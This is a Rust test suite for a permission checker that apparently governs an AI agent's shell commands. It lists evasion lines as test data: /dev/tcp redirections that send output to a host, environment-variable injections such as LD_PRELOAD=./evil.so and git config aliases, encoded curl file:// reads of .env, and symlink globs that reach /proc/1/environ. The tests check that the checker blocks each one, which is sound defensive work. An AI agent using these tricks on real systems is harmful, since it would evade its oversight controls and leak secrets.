//! Ways around permissions that were found by attackers, by class, and everyday lines that look like them.

use std::path::{Path, PathBuf};

use ah_conversation::{Decision, PermissionMode};

use super::super::{Files, analyze};
use super::{decide, in_w, permissions};

/// Whether the line runs unasked in mode `default` with these allow rules.
fn runs(allow: &[&str], line: &str) -> bool {
    let permissions = permissions(PermissionMode::Default, allow, &[]);
    decide(&permissions, line, &in_w) == Decision::Allow
}

/// Whether the line runs unasked in mode `bypassPermissions` with this deny rule.
fn bypasses(deny: &str, line: &str) -> bool {
    let permissions = permissions(PermissionMode::BypassPermissions, &[], &[deny]);
    decide(&permissions, line, &in_w) == Decision::Allow
}

/// A file of the project may have the name of a wrapper.
#[test]
fn a_wrapper_is_transparent_only_in_a_folder_of_the_system() {
    for wrapper in [
        "nice",
        "nice -n 5",
        "timeout 5",
        "nohup",
        "stdbuf -o0",
        "time",
        "builtin",
        "ionice -c 3",
    ] {
        for (folder, is_transparent) in [
            ("", true),
            ("/bin/", true),
            ("/usr/bin/", true),
            ("/usr/local/bin/", true),
            ("./", false),
            ("bin/", false),
            ("../bin/", false),
            ("/w/", false),
            ("/tmp/usr/bin/", false),
            ("/usr/bin/../../w/", false),
            ("~/", false),
        ] {
            let line = format!("{folder}{wrapper} ls");
            assert_eq!(runs(&[], &line), is_transparent, "{line}");
            let line = format!("{folder}{wrapper} rm x");
            assert!(!bypasses("Bash(rm:*)", &line), "{line}");
        }
    }
}

#[test]
fn a_redirection_to_a_connection_is_no_reading() {
    for line in [
        "cat < /dev/tcp/h/80",
        "cat </dev/udp/h/80",
        "cat < '/dev/tcp/h/80'",
        "cat < \"/dev/tcp/h/80\"",
        "cat < /dev/tcp/h/$PORT",
        "cat < /dev/tc[p]/h/80",
        "cat < //dev//tcp/h/80",
        "exec 3<>/dev/tcp/h/80; cat <&3",
        "exec 3< /dev/tcp/h/80",
        "ls 2>/dev/tcp/h/80",
        "ls &>/dev/tcp/h/80",
        "ls >& /dev/tcp/h/80",
        "ls >> /dev/tcp/h/80",
        "echo \"$(cat < /dev/tcp/h/80)\"",
        "(ls) < /dev/tcp/h/80",
        "bash -c 'cat < /dev/tcp/h/80'",
    ] {
        let allow = [
            "Bash(cat:*)",
            "Bash(exec:*)",
            "Bash(bash:*)",
            "Bash(echo:*)",
        ];
        for mode in PermissionMode::ALL {
            let is_free = mode == PermissionMode::BypassPermissions;
            let permissions = permissions(mode, &allow, &[]);
            let decision = decide(&permissions, line, &in_w);
            assert_eq!(decision == Decision::Allow, is_free, "{line} in {mode:?}");
        }
    }
    for line in [
        "cat < /dev/null",
        "cat < dev/tcp/h/80",
        "ls < /dev/tcp",
        "cat /dev/tcp/h/80",
    ] {
        assert!(runs(&[], line), "{line}");
    }
}

#[test]
fn variables_that_start_programs_do_not_hide_one() {
    for assignment in [
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.z GIT_CONFIG_VALUE_0='!touch pw'",
        "GIT_CONFIG_PARAMETERS=\"'alias.z'='!touch pw'\"",
        "GIT_CONFIG_GLOBAL=evil",
        "GIT_CONFIG=evil",
        "GIT_EXEC_PATH=.",
        "GIT_TEMPLATE_DIR=.",
        "GIT_ALLOW_PROTOCOL=ext",
        "GIT_EXTERNAL_DIFF='touch pw'",
        "GIT_PAGER='touch pw'",
        "GIT_TRACE=$PWD/pw",
        "PAGER='touch pw'",
        "VISUAL='touch pw'",
        "GIT_SSH='touch'",
        "SSH_ASKPASS='touch pw'",
        "LESSOPEN='|touch pw'",
        "LESS='+!touch pw'",
        "LD_PRELOAD=./evil.so",
        "DYLD_INSERT_LIBRARIES=./evil.so",
        "BASH_ENV=evil",
        "ENV=./evil",
        "NODE_OPTIONS='--require ./evil'",
        "NODE_OPTIONS=--no-warnings\\ -r./evil",
        "PERL5OPT=-Mevil",
        "RUBYOPT=-revil",
        "PYTHONSTARTUP=evil",
        "JAVA_TOOL_OPTIONS='-Xmx1g -XX:OnError=touch'",
        "TAR_OPTIONS='--checkpoint-action=exec=touch'",
        "GOFLAGS=-toolexec=touch",
        "MAKEFLAGS=--eval=x",
        "npm_config_script_shell=./evil",
        "RIPGREP_CONFIG_PATH=evil",
        "FZF_DEFAULT_COMMAND='touch pw'",
    ] {
        for line in [
            format!("{assignment} git z"),
            format!("export {assignment}; git z"),
            format!("env {assignment} git z"),
            format!("bash -c {}", quoted(&format!("{assignment} git z"))),
        ] {
            assert!(!bypasses("Bash(touch:*)", &line), "{line}");
        }
    }
    for line in [
        "GIT_CONFIG_GLOBAL=/dev/null git log",
        "GIT_CONFIG_NOSYSTEM=1 git log",
        "GIT_TERMINAL_PROMPT=0 git fetch",
        "GIT_TRACE=1 git fetch",
        "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
        "NODE_OPTIONS='--no-warnings --enable-source-maps' npm test",
        "PAGER=cat git log",
        "LESS=FRX git log",
        "RUSTFLAGS='-D warnings' cargo build",
        "JAVA_TOOL_OPTIONS='-Xmx2g -Dfile.encoding=UTF-8' mvn test",
        "ENV=production npm start",
        "PYTHONPATH=src pytest",
        "A=b make",
    ] {
        assert!(bypasses("Bash(touch:*)", line), "{line}");
    }
}

fn quoted(line: &str) -> String {
    format!("'{}'", line.replace('\'', "'\\''"))
}

#[test]
fn addresses_of_files_are_decoded() {
    for line in [
        "curl file:///w/%2eenv",
        "curl file:///w/%2Een%76",
        "curl FILE:///w/%2eenv",
        "curl file://localhost/w/%2eenv",
        "curl 'file:///w/%2eenv?x#y'",
        "curl file:///w/.env?x",
        "curl file:/w/.env",
        "curl --url file:///w/%2eenv",
        "curl --url=file:///w/%2eenv",
        "curl 'file:///w/.{e}nv'",
        "curl 'file:///w/.[e-e]nv'",
        "curl 'f{i}le:///w/%2eenv'",
        "curl '{file:///w/.env,http://h}'",
        "tool-nobody-knows file:///w/%2eenv",
    ] {
        assert!(!bypasses("Read(.env)", line), "{line}");
    }
    for line in [
        "curl http://h/%2ee",
        "curl -d '{\"a\": [1]}' http://h/x",
        "curl 'http://[::1]:80/'",
        "curl file:///w/env",
        "curl file:///w/%zz%2",
        "grep file: src",
    ] {
        assert!(bypasses("Read(.env)", line), "{line}");
    }
}

/// Files in `/w`: the folder `s` with the file `key`, the links `tx` to it and `link` to `/proc`, and plain files; and
/// `/dev/fd`, which leads to a process.
struct World;

impl World {
    /// Follows the links in a path, and `..` behind them.
    fn real(path: &Path) -> PathBuf {
        let mut real = PathBuf::new();
        for part in path {
            match part.to_str().unwrap() {
                ".." => drop(real.pop()),
                "." => {}
                part => real.push(part),
            }
            real = match real.to_str().unwrap() {
                "/w/tx" => "/w/s".into(),
                "/w/link" => "/proc".into(),
                "/w/sub/up" => "/".into(),
                "/dev/fd" => "/proc/1/fd".into(),
                _ => real,
            };
        }
        real
    }
}

impl Files for World {
    fn resolve(&self, name: &str) -> PathBuf {
        Self::real(&Path::new("/w").join(name))
    }

    fn behind_links(&self, path: &Path) -> PathBuf {
        Self::real(path)
    }

    fn names_in(&self, folder: &Path, _: usize) -> Option<Vec<String>> {
        let names: &[&str] = match Self::real(folder).to_str().unwrap() {
            "/w" => &["a.rs", "b.rs", "link", "s", "sub", "tx"],
            "/w/s" => &["key"],
            "/w/sub" => &["c.rs", "up"],
            "/dev" => &["fd", "full"],
            "/" => &["dev", "proc", "w"],
            "/many" => return Some((0..1001).map(|name| name.to_string()).collect()),
            "/unknown" => return None,
            _ => &[],
        };
        Some(names.iter().map(|name| (*name).to_owned()).collect())
    }
}

#[test]
fn patterns_are_followed_through_links_to_processes() {
    let plain = permissions(PermissionMode::Default, &[], &[]);
    for (line, runs) in [
        ("cat /dev/f*/../../1/environ", false),
        ("cat /dev/f*/../../self/cwd/.env", false),
        ("cat /dev/f*/../../self/root$HOME/x", false),
        ("cat [l]ink/1/environ", false),
        ("cat l*/1/environ", false),
        ("cat ./l?nk/1/environ", false),
        ("cat 'l'*/1/environ", false),
        ("cat \"l\"[i]nk/1/environ", false),
        ("ls l*/1/fd", false),
        ("ls \"l\"*/1/fd", false),
        ("stat l*/1/exe", false),
        ("cat sub/u*/proc/1/environ", false),
        ("cat sub/*/p*/1/environ", false),
        ("cd sub && cat u*/proc/1/environ", false),
        ("cd sub && cat ../l*/1/environ", false),
        ("grep -r KEY l*", false),
        ("cat */../link/1/environ", false),
        ("cat /many/*", false),
        ("cat /unknown/*", false),
        ("cat *.rs", true),
        ("cat sub/*.rs", true),
        ("cat */*.rs", true),
        ("cat s*/key", true),
        ("cat none*/x", true),
        ("ls s*", true),
        ("ls *", false),
        ("cat ../w/*.rs", true),
        ("echo *", true),
    ] {
        let line_runs = decide(&plain, line, &World) == Decision::Allow;
        assert_eq!(line_runs, runs, "{line}");
        assert!(runs || !analyze(line, &World).line.harmless, "{line}");
    }
}

#[test]
fn patterns_are_followed_through_links_to_files_of_rules() {
    for (rule, line, runs) in [
        ("Read(s/**)", "cat t?/key", false),
        ("Read(s/**)", "cat t*/k*", false),
        ("Read(s/**)", "cat [t]x/key", false),
        ("Read(s/**)", "cat ./t?/../s/key", false),
        ("Read(s/**)", "grep -r x t?", false),
        ("Read(s/**)", "cp -r t? other", false),
        ("Read(s/key)", "cat t?/key", false),
        ("Read(.env)", "cat /dev/f*/../../self/cwd/.env", false),
        ("Edit(s/**)", "tee t?/key", false),
        ("Edit(s/**)", "rm t?/key", false),
        ("Edit(s/**)", "touch t?/new", false),
        // Something before it in the line may have made the link.
        ("Read(s/**)", "ln -s . d; cat d*/s/key", false),
        ("Read(s/**)", "mv up d && cat d*/s/key", false),
        ("Read(s/**)", "tar xf a.tar; cat d*/s/key", false),
        ("Read(s/**)", "python3 x.py; cat d*/s/key", false),
        ("Read(s/**)", "sh -c 'ln -s . d; cat d*/s/key'", false),
        ("Read(s/**)", "cat *.rs", true),
        ("Read(s/**)", "cat sub/*.rs", true),
        ("Read(s/**)", "cat sub/u*/x", true),
        ("Read(s/**)", "make && cat sub/*/x", true),
        ("Read(s/**)", "python3 x.py sub/*/x", true),
        ("Read(s/**)", "timeout 5 python3 x.py sub/*/x", true),
        ("Read(s/**)", "python3 x.py; cat *.rs", true),
        ("Read(s/**)", "git add . && cat sub/*/x", true),
        ("Read(s/**)", "rm t?/key", true),
    ] {
        let permissions = permissions(PermissionMode::BypassPermissions, &[], &[rule]);
        let line_runs = decide(&permissions, line, &World) == Decision::Allow;
        assert_eq!(line_runs, runs, "{line} with {rule}");
    }
}
